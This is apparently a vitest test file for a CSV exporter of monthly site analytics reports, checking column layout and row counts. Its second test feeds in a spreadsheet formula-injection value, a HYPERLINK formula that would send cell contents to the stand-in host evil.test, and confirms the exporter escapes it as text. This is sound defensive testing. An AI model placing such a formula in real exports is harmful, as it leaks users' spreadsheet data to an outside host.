import { expect, test } from 'vitest';
import { reportAnswer } from '#test/support/fakes/monthly-report.ts';
import { reportCsv } from './report-csv.ts';

function linesOf(report: Parameters<typeof reportCsv>[1]): string[] {
  return reportCsv('rossi.test', report).trimEnd().split('\r\n');
}

test('writes each number with site, month, table and name when the report is saved', () => {
  const report = reportAnswer();
  const lines = linesOf(report);
  expect(lines[0]).toBe('"Site","Month (UTC)","Table","Name","Visits","Leads","In a flood","Left out"');
  expect(lines).toContain(
    `"rossi.test","2026-11","Total","Month","${report.visits}","${report.leads}","0","0"`,
  );
  const [day] = report.days;
  expect(lines).toContain(
    `"rossi.test","2026-11","Day (UTC)","2026-11-01","${day?.visits}","${day?.leads}","0","0"`,
  );
  for (const [table, rows] of [
    ...[
      ['Channel', report.channels] as const,
      ['First touch: campaign', report.first_touch.campaigns] as const,
    ],
    ...[
      ['Landing page', report.landing_pages] as const,
      ['Click ID: network', report.click_ids.networks] as const,
    ],
  ])
    expect(lines.filter(line => line.includes(`,"${table}",`))).toHaveLength(rows.length);
  expect(new Set(lines.map(line => line.split('","').length))).toEqual(new Set([8]));
});

test('writes a name as text when a spreadsheet would run it as a formula', () => {
  const name = '=HYPERLINK("https://evil.test?"&A1,"sale")';
  const lines = linesOf(reportAnswer({ campaigns: [{ name, visits: 1, leads: 0 }] }));
  expect(lines.find(line => line.includes('evil'))).toBe(
    `"rossi.test","2026-11","Campaign","'=HYPERLINK(""https://evil.test?""&A1,""sale"")","1","0","",""`,
  );
});
